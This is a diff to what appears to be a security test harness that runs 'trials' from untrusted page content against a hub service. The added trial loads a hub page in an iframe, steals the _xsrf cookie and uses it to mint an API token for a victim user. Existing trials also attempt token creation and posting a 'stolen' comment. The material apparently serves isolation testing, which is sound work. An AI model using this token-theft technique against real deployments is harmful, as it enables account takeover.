@@ -28,6 +28,17 @@ SCRIPT = """
   await trial("token", () => asked("HUB/hub/api/users/VICTIM/tokens", {...json, body: "{}"}));
   await trial("comment", () => asked("HUB/services/api/v1/comments",
     {...json, body: JSON.stringify({target: "instrument:AAPL.XNAS", body: "stolen"})}));
+  await trial("key", async () => {
+    const frame = document.createElement("iframe");
+    const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 4000); });
+    frame.src = "HUB/hub/logo";
+    document.body.append(frame);
+    await loaded;
+    const found = /_xsrf=([^;]+)/.exec(frame.contentDocument.cookie);
+    if (found === null) throw new DOMException("", "none");
+    const headers = {...json.headers, "X-XSRFToken": found[1]};
+    return asked("HUB/hub/api/users/VICTIM/tokens", {...json, headers, body: "{}"});
+  });
   await trial("parent", () => {
     if (parent === window) throw new DOMException("", "none");
     return parent.document.title;
